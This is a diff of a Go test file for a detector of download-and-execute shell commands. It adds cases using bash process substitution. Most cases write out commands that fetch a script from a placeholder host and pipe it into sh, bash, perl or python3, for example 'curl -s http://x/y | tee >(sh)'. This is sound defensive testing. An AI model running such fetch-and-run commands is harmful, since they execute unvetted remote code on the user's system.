@@ -17,6 +17,17 @@ func TestDownloadExecute(t *testing.T) {
 		{name: "curl pipe perl", script: "curl -s http://x/y.pl | perl", want: de},
 		{name: "curl pipe python -c exec stdin", script: `curl -s http://x/y.py | python3 -c "import sys; exec(sys.stdin.read())"`, want: de},
 		{name: "curl tee sh", script: "curl -s http://x/y | tee /tmp/log | sh", want: de},
+
+		// Output process substitutions: what is written to >(...) is its commands' stdin.
+		{name: "curl tee process substitution", script: "curl -s http://x/y | tee >(sh)", want: de, detail: "output of curl http://x/y piped into sh"},
+		{name: "curl tee file and process substitution", script: "curl -s http://x/y | tee /tmp/log >(bash) >/dev/null", want: de},
+		{name: "redirect into process substitution", script: "curl -s http://x/y > >(sh)", want: de},
+		{name: "curl -o process substitution", script: "curl -s -o >(sh) http://x/y", want: de},
+		{name: "wget -O process substitution", script: "wget -qO >(python3) http://x/y", want: de},
+		{name: "second process substitution", script: "curl -s http://x/y | tee >(cat >/dev/null) >(sh)", want: de},
+		{name: "literal text into process substitution", script: "echo hello | tee >(sh)"},
+		{name: "download into process substitution saving it", script: "curl -s http://x/y | tee >(cat > /tmp/y)"},
+		{name: "process substitution writing to itself", script: "echo x | tee >(tee /dev/fd/63)"},
 		{name: "curl -o - pipe sh", script: "curl -sSLo- http://x/y | sh", want: de},
 		{name: "curl pipe subshell", script: "curl -s http://x/y | (sh)", want: de},
 		{name: "subshell pipe sh", script: "(curl -s http://x/y) | sh", want: de},
